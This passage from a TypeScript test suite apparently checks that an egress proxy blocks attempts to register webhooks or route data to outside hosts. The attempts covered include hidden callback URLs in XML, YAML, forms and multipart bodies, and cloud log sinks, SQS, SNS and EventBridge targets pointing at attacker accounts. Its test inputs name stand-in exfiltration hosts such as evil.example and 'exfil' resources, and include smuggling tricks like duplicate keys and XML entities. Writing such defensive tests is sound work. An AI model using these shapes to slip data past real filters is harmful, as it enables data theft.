    'XML element': (url, _o, large) => ['/ok/subscriptions', 'application/xml', `<Subscription>${large ? `<pad>${pad}</pad>` : ''}<changeType>created</changeType><notificationUrl>${url.replaceAll('&', '&amp;')}</notificationUrl></Subscription>`],
    'XML attribute, namespaced': (url, _o, large) => ['/ok/subscriptions', 'text/xml; charset=utf-8', `<s:Subscription xmlns:s="urn:s">${large ? `<s:pad>${pad}</s:pad>` : ''}<s:Sub s:notificationUrl="${url.replace(/\//g, '&#x2f;')}"/></s:Subscription>`],
    // (Twenty-second pass: a `>` in another attribute's value is text to an XML parser; the reader ended the tag there.)
    'XML attribute after a > in a value': (url, _o, large) => ['/ok/subscriptions', 'application/xml', `<Subscription>${large ? `<pad>${pad}</pad>` : ''}<Sub note="a>b" notificationUrl="${url}"/></Subscription>`],
    'XML entity': (url) => ['/ok/subscriptions', 'application/xml', `<!DOCTYPE Subscription [<!ENTITY u "${url}">]><Subscription><notificationUrl>&u;</notificationUrl></Subscription>`],
    'XML entity, large': (url, _o, large) => ['/ok/subscriptions', 'application/xml', `<!DOCTYPE Subscription [<!ENTITY u "${url}">]><Subscription>${large ? `<pad>${pad}</pad>` : ''}<Sub notificationUrl="&u;"/></Subscription>`],
    'XML CDATA': (url, _o, large) => ['/ok/subscriptions', 'application/xml', `<Subscription>${large ? `<pad>${pad}</pad>` : ''}<!-- hook --><callback_url><![CDATA[${url}]]></callback_url></Subscription>`],
  };
  const allowed = `http://${dHost}/ok/cb`;
  // Controls: each shape naming the allowed host is registered there (UTF-7, which Airlock cannot decode, is refused whatever it names).
  for (const [i, name] of Object.keys(shapes).entries()) {
    if (name.includes('UTF-7')) continue;
    const before = sentTo.length;
    const [path, type, body] = shapes[name]!(allowed, allowed, false);
    const [res] = parseResponses((await send(path, type, body, i % 2 === 0)).text);
    t.ok(res?.status === 201 && sentTo.slice(before).includes(allowed), `control: a callback to the allowed host as ${name} is registered (${res?.status})`);
  }
  // Controls past the capture cap (twenty-second pass): a padded XML subscription, or registration, whose callback is no URL is registered as sent.
  for (const [i, name] of ['XML element', 'XML attribute, namespaced', 'XML attribute after a > in a value', 'XML CDATA', 'OIDC request_uris'].entries()) {
    const [path, type, body] = shapes[name]!('urn:none', 'urn:other', true);
    const [res] = parseResponses((await send(path, type, body, i % 2 === 1)).text);
    t.equal(res?.status, 201, `control: ${name} past the capture cap naming no URL is registered`);
  }
  {
    const before = sentTo.length;
    const [path, type, body] = shapes['XML attribute after a > in a value']!('https://evil.example/cb', allowed, false);
    const [res] = parseResponses((await send(path, type, body, false)).text);
    t.ok(res !== undefined && res.status === 403 && !sentTo.slice(before).some((v) => v.includes('evil.example')), `an XML callback attribute after a \`>\` in another's value: decided (${res?.status})`);
  }
  // Twenty-ninth pass: YAML bodies, naming another host.
  for (const [i, name] of ['YAML Kubernetes webhook configuration', 'YAML callback, escaped and aliased', 'YAML webhook holder, merge key'].entries()) {
    const before = sentTo.length;
    const [path, type, body] = shapes[name]!('https://evil.example/cb', allowed, false);
    const [res] = parseResponses((await send(path, type, body, i % 2 === 1)).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example')), `twenty-ninth pass: ${name} naming another host: decided (${res?.status})`);
  }
  // Twenty-eighth pass: JSON only Gson's lenient reading takes, and nested form names as PHP, Rack, qs and Spring bind them, naming another host.
  for (const [i, name] of ['Gson = and ;', 'Gson => and a # comment', 'Gson XSSI prefix', 'nested list webhooks[0][url]', 'Spring webhooks[0].url', 'Spring config.webhook.url', 'XML webhook holder', 'XML webhooks list, attribute'].entries()) {
    const before = sentTo.length;
    const [path, type, body] = shapes[name]!('https://evil.example/cb', allowed, false);
    const [res] = parseResponses((await send(path, type, body, i % 2 === 1)).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example')), `twenty-eighth pass: ${name} naming another host: decided (${res?.status})`);
  }
  // Twenty-second pass: callback names the readers lacked, each naming another host.
  for (const [i, name] of ['Pub/Sub pushEndpoint', 'Twilio SmsUrl', 'Twilio VoiceUrl, large', 'SNS Subscribe', 'callback_uri', 'REST hook target_url', 'Pipedrive subscription_url', 'webhook object', 'CRD conversion clientConfig', 'notification endpoint object, large', 'JSON part', 'JSON file part', 'multipart/related JSON part', 'array of subscriptions, large', 'Rack 2 query', 'Rack 2 form', 'Rack 2 form, large', 'XML entity', 'XML entity, large', 'nested form webhook[url]', 'nested form webhook[url], large'].entries()) {
    const before = sentTo.length;
    const [path, type, body] = shapes[name]!('https://evil.example/cb', allowed, name.endsWith('large'));
    const [res] = parseResponses((await send(path, type, body, i % 2 === 0)).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example')), `${name} naming another host: decided (${res?.status})`);
  }
  // Twenty-third pass: names the readers lacked, within and past the capture cap.
  for (const [i, name] of ['Twilio RecordingStatusCallback', 'Twilio AmdStatusCallback, large', 'Postmark InboundHookUrl', 'Postmark BounceHookUrl, large', 'Conversations PreWebhookUrl', 'Asana webhook target'].entries()) {
    for (const large of name.endsWith('large') ? [false, true] : [false]) {
      const before = sentTo.length;
      const [path, type, body] = shapes[name]!('https://evil.example/cb', allowed, large);
      const [res] = parseResponses((await send(path, type, body, i % 2 === 0)).text);
      t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example')), `${name}${large ? ' past the capture cap' : ''} naming another host: decided (${res?.status})`);
    }
  }
  // Twenty-sixth pass: a callback under a name no list held, off a hooks endpoint; controls: URL fields the service only shows or fetches.
  for (const [i, name] of ['Vonage status_url', 'Vonage inbound_url', 'Plivo hangup_url', 'SMS dlr_url', 'delivery_report_url, large'].entries()) {
    for (const large of name.endsWith('large') ? [false, true] : [false]) {
      const before = sentTo.length;
      const [path, type, body] = shapes[name]!('https://evil.example/cb', allowed, large);
      const [res] = parseResponses((await send(path, type, body, i % 2 === 0)).text);
      t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example')), `twenty-sixth pass: ${name}${large ? ' past the capture cap' : ''} naming another host: decided (${res?.status})`);
    }
  }
  {
    const text = JSON.stringify({ name: 'app', avatar_url: 'https://evil.example/a.png', shipping_url: 'https://evil.example/s', monitoring_uri: 'https://evil.example/m', receipt_url: 'https://evil.example/r' });
    const [res] = parseResponses((await send('/ok/v2/profiles', 'application/json', text, false)).text);
    t.ok(res !== undefined && !isProblem(res), `control: URL members no service sends to (avatar_url, shipping_url, monitoring_uri, receipt_url) go through (${res?.status})`);
  }
  // Twenty-fourth pass: a URL in an expression, a GraphQL API's holder or literal, a hook endpoint named otherwise.
  for (const [i, name] of ['Mailgun route forward', 'Mailgun route forward, unescaped', 'Mailgun route store notify', 'Shopify webhookSubscription uri', 'GraphQL literal callbackUrl', 'GraphQL hook field, variables', 'Sentry webhooks plugin urls', 'PagerDuty delivery_method', 'Slack manifest event request_url', 'Slack manifest in a form field', 'Slack slash command url', 'JSON in a form field', 'JSON in a form field, unescaped', 'nested form webhook[url], unescaped', 'Rack part named by its Content-ID'].entries()) {
    for (const large of name === 'Mailgun route forward' ? [false, true] : [false]) {
      const before = sentTo.length;
      const [path, type, body] = shapes[name]!('https://evil.example/cb', allowed, large);
      const [res] = parseResponses((await send(path, type, body, i % 2 === 1)).text);
      t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example')), `twenty-fourth pass: ${name}${large ? ' past the capture cap' : ''} naming another host: decided (${res?.status})`);
    }
  }
  // Twenty-fifth pass: list names, a part named by its type, an action part and a field's JSON past the cap (left open by the twenty-fourth).
  for (const [i, name] of ['callback list name', 'OIDC request_uris[0] in a form', 'Rack part named by its Content-Type', 'Mailgun route store notify, large', 'JSON in a form field', 'JSON in a multipart field', 'JSON with a ; in a form field', 'A2A pushNotificationConfig', 'A2A message/send configuration', 'DocuSign eventNotification', 'Knative sink', 'Cloud Scheduler httpTarget', 'EventBridge InvocationEndpoint', 'EventBridge connection AuthorizationEndpoint', 'Keycloak identity provider tokenUrl', 'Vonage application webhooks', 'GitLab push mirror', 'Gitea push mirror', 'GitLab push mirror, form', 'Eventarc httpEndpoint', 'Firehose HTTP endpoint', 'API Gateway HTTP integration', 'API Gateway v2 integration', 'a URL-named member of a webhooks object'].entries()) {
    for (const large of ['OIDC request_uris[0] in a form', 'A2A message/send configuration', 'DocuSign eventNotification', 'Knative sink', 'EventBridge InvocationEndpoint', 'Keycloak identity provider tokenUrl', 'GitLab push mirror', 'Gitea push mirror', 'GitLab push mirror, form', 'Firehose HTTP endpoint', 'API Gateway HTTP integration', 'API Gateway v2 integration'].includes(name) ? [false] : [false, true]) {
      const before = sentTo.length;
      const [path, type, body] = shapes[name]!('https://evil.example/cb', allowed, large);
      const [res] = parseResponses((await send(path, type, body, i % 2 === 1)).text);
      t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example')), `twenty-fifth pass: ${name}${large ? ' past the capture cap' : ''} naming another host: decided (${res?.status}; ${sentTo.slice(before).join(' ')})`);
    }
  }
  // Property (twenty-fifth pass): a callback under a list's name, in any spelling of its subscript, form
  // (PHP builds the list) or multipart (Rack, `[]` or a part named by its type), within or past the cap.
  await fc.assert(fc.asyncProperty(
    fc.record({ name: fc.constantFrom('callback_url', 'notificationUrl', 'webhook[url]', 'request_uris', 'StatusCallback'), sub: fc.constantFrom('[]', '[0]', '[3]', '%5B%5D', '%5B0%5D'), how: fc.constantFrom('form', 'multipart', 'typed part'), large: fc.boolean(), tunnel: fc.boolean() }),
    async ({ name, sub, how, large, tunnel }) => {
      const url = 'https://evil.example/cb';
      const field = how === 'form' ? `${name}${sub}` : `${name}${decodeURIComponent(sub).replace(/\d/, '')}`;
      const [path, type, body] = how === 'form'
        ? ['/ok/php/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}name=x&${field}=${encodeURIComponent(url)}`]
        : ['/ok/rack/subscriptions', 'multipart/form-data; boundary=mb', `${large ? `--mb\r\nContent-Disposition: form-data; name="pad"\r\n\r\n${pad}\r\n` : ''}--mb\r\n${how === 'multipart' ? `Content-Disposition: form-data; name="${field}"` : `Content-Disposition: form-data\r\nContent-Type: ${name}`}\r\n\r\n${url}\r\n--mb--\r\n`];
      const before = sentTo.length;
      const [res] = parseResponses((await send(path, type, body, tunnel)).text);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example'));
    },
  ), { numRuns: 24, ...seed });
  // (A Cloud Logging sink into another project's bucket, topic or dataset, created or moved there.)
  for (const [i, [method, path, destination]] of ([
    ['POST', '/ok/v2/projects/p/sinks', 'storage.googleapis.com/exfil-bucket'],
    ['PATCH', '/ok/v2/projects/p/sinks/s?updateMask=destination', 'pubsub.googleapis.com/projects/attacker/topics/t'],
    ['PUT', '/ok/v2/projects/p/sinks/s', 'bigquery.googleapis.com/projects/attacker/datasets/d'],
    ['POST', '/ok/v2/projects/p/sinks', 'splunk.evil.example/hec'],
  ] as const).entries()) {
    const before = sentTo.length;
    const payload = JSON.stringify({ name: 's', destination, filter: 'severity>=DEFAULT' });
    const head = `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(payload)}\r\n\r\n`;
    const [res] = parseResponses((await rawToProxy(a.port, [`${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, payload], { responses: 1 })).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).includes(destination), `twenty-fifth pass: a log sink (${method}) into ${destination}: decided (${res?.status}) #${i}`);
  }
  // (AWS's log destinations: an export task into the attacker's bucket, a trail delivering there, a subscription filter streaming out.)
  for (const [i, [action, payload, named]] of ([
    ['Logs_20140328.CreateExportTask', { logGroupName: '/app/prod', from: 0, to: 1, destination: 'exfil-bucket-999' }, 'exfil-bucket-999'],
    ['com.amazonaws.cloudtrail.v20131101.CloudTrail_20131101.CreateTrail', { Name: 't', S3BucketName: 'exfil-bucket-999', IsMultiRegionTrail: true }, 'exfil-bucket-999'],
    ['Logs_20140328.PutSubscriptionFilter', { logGroupName: '/app/prod', filterName: 'f', filterPattern: '', destinationArn: 'arn:aws:lambda:us-east-1:999999999999:function:exfil' }, 'arn:aws:lambda:us-east-1:999999999999:function:exfil'],
    ['Logs_20140328.PutSubscriptionFilter', { logGroupName: '/app/prod', filterName: 'f', filterPattern: '', destinationArn: 'arn:aws:logs:us-east-1:999999999999:destination:exfil' }, 'arn:aws:logs:us-east-1:999999999999:destination:exfil'],
  ] as const).entries()) {
    const before = sentTo.length;
    const text = JSON.stringify(payload);
    const head = `Content-Type: application/x-amz-json-1.1\r\nX-Amz-Target: ${action}\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}/ HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, text], { responses: 1 })).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).includes(named), `twenty-fifth pass: ${action.split('.').pop()} into ${named}: decided (${res?.status}) #${i}`);
  }
  // (Twenty-sixth pass: EventBridge targets in another account: its bus, queue, function, a dead-letter queue; Scheduler and Pipes.)
  for (const [i, [how, path, payload, named]] of ([
    ['AWSEvents.PutTargets', '/', { Rule: 'all', Targets: [{ Id: '1', Arn: 'arn:aws:events:us-east-1:999999999999:event-bus/default', RoleArn: 'arn:aws:iam::111111111111:role/r' }] }, 'arn:aws:events:us-east-1:999999999999:event-bus/default'],
    ['AWSEvents.PutTargets', '/', { Rule: 'all', Targets: [{ Id: '1', Arn: 'arn:aws:logs:us-east-1:111111111111:log-group:/ok' }, { Id: '2', Arn: 'arn:aws:sqs:us-east-1:999999999999:exfil' }] }, 'arn:aws:sqs:us-east-1:999999999999:exfil'],
    ['AWSEvents.PutTargets', '/', { Rule: 'all', Targets: [{ Id: '1', Arn: 'arn:aws:lambda:us-east-1:999999999999:function:exfil' }] }, 'arn:aws:lambda:us-east-1:999999999999:function:exfil'],
    ['AWSEvents.PutTargets', '/', { Rule: 'all', Targets: [{ Id: '1', Arn: 'arn:aws:states:us-east-1:999999999999:stateMachine:x', DeadLetterConfig: { Arn: 'arn:aws:sqs:us-east-1:999999999999:dlq' } }] }, 'arn:aws:sqs:us-east-1:999999999999:dlq'],
    ['', '/schedules/nightly', { ScheduleExpression: 'rate(1 day)', FlexibleTimeWindow: { Mode: 'OFF' }, Target: { Arn: 'arn:aws:sqs:us-east-1:999999999999:exfil', RoleArn: 'arn:aws:iam::111111111111:role/r' } }, 'arn:aws:sqs:us-east-1:999999999999:exfil'],
    ['', '/v1/pipes/p', { Source: 'arn:aws:sqs:us-east-1:111111111111:in', Target: 'arn:aws:events:us-east-1:999999999999:event-bus/default', RoleArn: 'arn:aws:iam::111111111111:role/r' }, 'arn:aws:events:us-east-1:999999999999:event-bus/default'],
    ['AWSEvents.PutEvents', '/', { Entries: [{ Source: 'app', DetailType: 'x', Detail: '{}' }, { Source: 'app', DetailType: 'x', Detail: '{"data":1}', EventBusName: 'arn:aws:events:us-east-1:999999999999:event-bus/exfil' }] }, 'arn:aws:events:us-east-1:999999999999:event-bus/exfil'],
  ] as const).entries()) {
    const before = sentTo.length;
    const text = JSON.stringify(payload);
    const head = `Content-Type: application/x-amz-json-1.1\r\n${how ? `X-Amz-Target: ${how}\r\n` : ''}Content-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
    const [res] = parseResponses((await rawToProxy(a.port, [`${i === 4 ? 'PUT' : 'POST'} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, text], { responses: 1 })).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).includes(named), `twenty-sixth pass: ${how || path} sending events to ${named}: decided (${res?.status}) #${i}`);
  }
  // (Twenty-sixth pass: an SQS message sent under the agent's own queue's path to the queue its QueueUrl names: JSON, a form, the query.)
  for (const [i, [how, type, path, text]] of ([
    ['AmazonSQS.SendMessage', 'application/x-amz-json-1.0', '/111111111111/own', JSON.stringify({ QueueUrl: 'https://sqs.us-east-1.amazonaws.com/999999999999/exfil', MessageBody: 'data' })],
    ['AmazonSQS.SendMessage', 'application/x-amz-json-1.0', '/111111111111/own', `{"QueueUrl": "http://${dHost}/111111111111/own", "MessageBody": "data", "QueueUrl": "https://sqs.us-east-1.amazonaws.com/999999999999/exfil"}`],
    ['', 'application/x-www-form-urlencoded', '/111111111111/own', `Action=SendMessage&MessageBody=data&QueueUrl=${encodeURIComponent('https://sqs.us-east-1.amazonaws.com/999999999999/exfil')}`],
    ['', 'application/x-www-form-urlencoded', `/?QueueUrl=${encodeURIComponent(`http://${dHost}/deny/q`)}`, 'Action=SendMessage&MessageBody=data'],
  ] as const).entries()) {
    const before = sentTo.length;
    const head = `Content-Type: ${type}\r\n${how ? `X-Amz-Target: ${how}\r\n` : ''}Content-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, text], { responses: 1 })).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => /exfil|deny/.test(v)), `twenty-sixth pass: an SQS message whose QueueUrl names another queue than the path's: decided (${res?.status}) #${i}`);
  }
  for (const [i, [how, type, path, text]] of ([
    ['', 'application/x-www-form-urlencoded', '/', `Action=Publish&Message=data&TopicArn=${encodeURIComponent('arn:aws:sns:us-east-1:999999999999:exfil')}`],
    ['', 'application/x-www-form-urlencoded', `/?Action=Publish&TargetArn=${encodeURIComponent('arn:aws:sns:us-east-1:999999999999:exfil')}`, 'Message=data'],
    ['AmazonSimpleNotificationService.Publish', 'application/x-amz-json-1.0', '/', JSON.stringify({ TopicArn: 'arn:aws:sns:us-east-1:999999999999:exfil', Message: 'data' })],
  ] as const).entries()) {
    const before = sentTo.length;
    const head = `Content-Type: ${type}\r\n${how ? `X-Amz-Target: ${how}\r\n` : ''}Content-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, text], { responses: 1 })).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('exfil')), `twenty-sixth pass: an SNS Publish whose topic is another account's: decided (${res?.status}) #${i}`);
  }
  {
    const text = `Action=GetTopicAttributes&TopicArn=${encodeURIComponent('arn:aws:sns:us-east-1:999999999999:exfil')}`;
    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}/ HTTP/1.1\r\nHost: ${dHost}\r\n${auth}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${text.length}\r\n\r\n`, text], { responses: 1 })).text);
    t.ok(res !== undefined && !isProblem(res), `control: an SNS call other than Publish naming a topic goes through (${res?.status})`);
  }
  {
    const text = JSON.stringify({ QueueUrl: `http://${dHost}/111111111111/own`, MessageBody: 'data' });
    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}/111111111111/own HTTP/1.1\r\nHost: ${dHost}\r\n${auth}Content-Type: application/x-amz-json-1.0\r\nX-Amz-Target: AmazonSQS.SendMessage\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n`, text], { responses: 1 })).text);
    t.ok(res?.status === 200 && sentTo.at(-1) === `sqs http://${dHost}/111111111111/own`, `control: an SQS message to the allowed queue is sent (${res?.status})`);
  }
  for (const [how, payload] of [['AWSEvents.PutRule', { Name: 'all', EventPattern: '{"source":["aws.ec2"]}' }], ['AWSEvents.ListTargetsByRule', { Rule: 'all' }], ['AWSEvents.PutEvents', { Entries: [{ Source: 'app', DetailType: 'x', Detail: '{}', EventBusName: 'orders' }] }]] as const) {
    const text = JSON.stringify(payload);
    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}/ HTTP/1.1\r\nHost: ${dHost}\r\n${auth}Content-Type: application/x-amz-json-1.1\r\nX-Amz-Target: ${how}\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n`, text], { responses: 1 })).text);
    t.ok(res !== undefined && !isProblem(res), `control: ${how} goes through (${res?.status})`);
  }
  // (An Azure diagnostic setting sending a key vault's audit logs to another subscription's storage account or Event Hub.)
  for (const [i, [what, id]] of ([
    ['storageAccountId', '/subscriptions/99999999-9999-9999-9999-999999999999/resourceGroups/x/providers/Microsoft.Storage/storageAccounts/exfil'],
    ['eventHubAuthorizationRuleId', '/subscriptions/99999999-9999-9999-9999-999999999999/resourceGroups/x/providers/Microsoft.EventHub/namespaces/exfil/authorizationrules/RootManageSharedAccessKey'],
    ['workspaceId', 'https://exfil.example/ws'],
  ] as const).entries()) {
    const before = sentTo.length;
    const text = JSON.stringify({ properties: { [what]: id, logs: [{ category: 'AuditEvent', enabled: true }] } });
    const head = `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
    const path = '/ok/subscriptions/11111111-1111-1111-1111-111111111111/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/kv/providers/Microsoft.Insights/diagnosticSettings/audit?api-version=2021-05-01-preview';
    const [res] = parseResponses((await rawToProxy(a.port, [`PUT http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, text], { responses: 1 })).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).includes(id), `twenty-fifth pass: a diagnostic setting's ${what} in another subscription: decided (${res?.status}) #${i}`);
  }
  // (An SNS subscription of another account's queue or function: SNS delivers every message of the topic there.)
  for (const [i, [what, arn]] of ([['an SQS queue', 'arn:aws:sqs:us-east-1:999999999999:exfil'], ['a Lambda function', 'arn:aws:lambda:us-east-1:999999999999:function:exfil'], ['a Firehose stream', 'arn:aws:firehose:us-east-1:999999999999:deliverystream/exfil']] as const).entries()) {
    const before = sentTo.length;
    const [res] = parseResponses((await send('/ok/subscriptions', 'application/x-www-form-urlencoded', `Action=Subscribe&TopicArn=${encodeURIComponent('arn:aws:sns:us-east-1:111111111111:alerts')}&Protocol=${what.includes('SQS') ? 'sqs' : what.includes('Lambda') ? 'lambda' : 'firehose'}&Endpoint=${encodeURIComponent(arn)}`, i % 2 === 1)).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).includes(arn), `twenty-fifth pass: an SNS subscription of ${what} in another account: decided (${res?.status})`);
  }
  // (Controls past the cap: WordPress's upload `action` beside a large file, a form field's JSON naming no callback URL.)
  for (const [what, path, type, body] of [
    ['a WordPress upload action', '/ok/wp-admin/async-upload.php', 'multipart/form-data; boundary=mb', `--mb\r\nContent-Disposition: form-data; name="async-upload"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n${pad}\r\n--mb\r\nContent-Disposition: form-data; name="action"\r\n\r\nupload-attachment\r\n--mb--\r\n`],
    ['a form field\'s JSON naming no URL', '/ok/slack/subscriptions', 'application/x-www-form-urlencoded', `pad=${pad}&subscription=${encodeURIComponent(JSON.stringify({ changeType: 'created', notificationUrl: 'urn:none', note: 'see https://allowed.example/' }))}`],
  ] as const) {
    const [res] = parseResponses((await send(path, type, body, false)).text);
    t.ok(res !== undefined && !isProblem(res) && ![400, 403].includes(res.status), `control: ${what} past the capture cap goes through to the server (${res?.status})`);
  }
  // The same past the capture cap naming another host (left open by the twenty-first pass: the watch read JSON strings and forms only).
  for (const [i, name] of ['XML element', 'XML attribute, namespaced', 'XML attribute after a > in a value', 'XML CDATA', 'OIDC request_uris'].entries()) {
    const before = sentTo.length;
    const [path, type, body] = shapes[name]!('https://evil.example/cb', allowed, true);
    const [res] = parseResponses((await send(path, type, body, i % 2 === 0)).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example')), `${name} past the capture cap naming another host: decided (${res?.status})`);
  }
  await fc.assert(fc.asyncProperty(
    fc.record({ name: fc.constantFrom(...Object.keys(shapes)), large: fc.boolean(), tunnel: fc.boolean() }),
    async ({ name, large, tunnel }) => {
      const before = sentTo.length;
      const [path, type, body] = shapes[name]!('https://evil.example/cb', allowed, large);
      const [res] = parseResponses((await send(path, type, body, tunnel)).text);
      return res !== undefined && [400, 403, 415].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example'));
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed, examples: [[{ name: 'callback.url', large: false, tunnel: false }], [{ name: 'twice', large: false, tunnel: true }], [{ name: 'callback url', large: true, tunnel: false }], [{ name: 'twice, escaped', large: true, tunnel: false }], [{ name: 'XML element', large: false, tunnel: false }], [{ name: 'multipart field', large: false, tunnel: false }], [{ name: 'multipart field', large: true, tunnel: true }], [{ name: 'multipart field in UTF-7', large: false, tunnel: false }], [{ name: 'OIDC jwks_uri', large: false, tunnel: false }], [{ name: 'OIDC request_uris', large: false, tunnel: true }], [{ name: 'CIBA notification endpoint', large: false, tunnel: false }], [{ name: 'XML attribute, namespaced', large: false, tunnel: true }], [{ name: 'XML CDATA', large: false, tunnel: false }], [{ name: 'junk after', large: false, tunnel: true }], [{ name: 'a comment', large: false, tunnel: false }]] });
  // Callbacks in the head (OData's Prefer, X-Callback-Url), and one in the query beside a text body.
  const headed = (extra: string, query: string, url: string): Promise<{ text: string }> => rawToProxy(a.port, `POST http://${dHost}/ok/subscriptions${query} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${extra}Content-Type: text/plain\r\nContent-Length: 5\r\n\r\nhello`, { responses: 1 });
  for (const [how, url] of [['allowed', allowed], ['evil', 'https://evil.example/cb']] as const) {
    for (const [what, extra, query] of [
      ['Prefer: odata.callback', `Prefer: respond-async, odata.callback; url="${url}"\r\n`, ''],
      ['X-Callback-Url', `X-Callback-Url: ${url}\r\n`, ''],
      ['a query callback beside a text body', '', `?callback_url=${encodeURIComponent(url)}`],
    ] as const) {
      const before = sentTo.length;
      const [res] = parseResponses((await headed(extra, query, url)).text);
      if (how === 'allowed') t.ok(res?.status === 201 && sentTo.slice(before).includes(allowed), `control: ${what} naming the allowed host is registered (${res?.status})`);
      else t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example')), `${what} naming another host: decided (${res?.status})`);
    }
  }
  // A Graph API batch in the first value of a body that goes on: the server runs its calls.
  const batchOf = (target: string, after: string): string => `${JSON.stringify({ batch: [{ method: 'DELETE', relative_url: target }] })}${after}`;
  t.equal(parseResponses((await send('/ok/stream/', 'application/json', batchOf('ok/dav/x.txt', '\n{"more": 1}'), false)).text)[0]?.status, 200, 'control: a batch of allowed calls in a first value goes through');
  for (const [i, after] of ['\n{"more": 1}', ']x', ' // done'].entries()) {
    const before = batchRan.length;
    const [res] = parseResponses((await send('/ok/stream/', 'application/json', batchOf('deny/secret.txt', after), i % 2 === 1)).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !batchRan.slice(before).some((c) => c.includes('/deny')), `a Graph batch in a first value followed by ${JSON.stringify(after)}: decided (${res?.status})`);
  }
});

t.test('property (twenty-fifth pass): a form field\'s JSON document and a multipart `action` call past the capture cap are read wherever the packets cut them', async (t) => {
  // The watch past the cap (proxy/form-tail.ts) as the proxy runs it, on bodies cut at random places:
  // an escape (`%7B`, `%22`) or a delimiter split across two chunks must not hide the callback.
  const pad = 'p'.repeat(3000);
  const bodies = {
    'form JSON': (url: string, esc: boolean): [string, string] => ['application/x-www-form-urlencoded', `pad=${pad}&name=x&subscription=${esc ? encodeURIComponent(JSON.stringify({ changeType: 'created', notificationUrl: url })) : JSON.stringify({ changeType: 'created', notificationUrl: url })}&z=1`],
    'form JSON list': (url: string, esc: boolean): [string, string] => ['application/x-www-form-urlencoded', `pad=${pad}&subs=${(esc ? encodeURIComponent : (x: string) => x)(JSON.stringify([{ a: 1 }, { webhook: { url } }]))}`],
    'multipart action': (url: string, esc: boolean): [string, string] => ['multipart/form-data; boundary=mb', `--mb\r\nContent-Disposition: form-data; name="description"\r\n\r\n${pad}\r\n--mb\r\nContent-Disposition: form-data; name="action"\r\n\r\n${esc ? 'forward(' : 'store(notify='}"${url}")\r\n--mb--\r\n`],
  };
  const run = async (type: string, body: Buffer, cuts: number[]): Promise<'stopped' | 'whole'> => {
    const watches = formTailWatches(['Content-Type', type], { captured: body.subarray(0, 1024), truncated: true });
    if (!watches.length) return 'whole';
    const points = [...new Set(cuts.map((c) => c % body.length))].sort((x, y) => x - y);
    const chunks = points.reduce<Buffer[]>((acc, p, i) => [...acc, body.subarray(i ? points[i - 1] : 0, p)], []).concat(body.subarray(points.at(-1) ?? 0));
    let out = 0;
    let failed = false;
    for (const w of watches) {
      w.on('data', (d: Buffer) => (out += d.length));
      w.on('error', () => (failed = true));
      for (const c of chunks) if (c.length && !failed) await new Promise<void>((res) => w.write(c, () => res()));
      if (!failed) await new Promise<void>((res) => { w.once('error', () => res()); w.end(() => res()); });
    }
    return !failed && out === body.length * watches.length ? 'whole' : 'stopped';
  };
  await fc.assert(fc.asyncProperty(
    fc.record({ shape: fc.constantFrom(...(Object.keys(bodies) as Array<keyof typeof bodies>)), esc: fc.boolean(), cuts: fc.array(fc.nat(), { minLength: 1, maxLength: 8 }), near: fc.nat(60) }),
    async ({ shape, esc, cuts, near }) => {
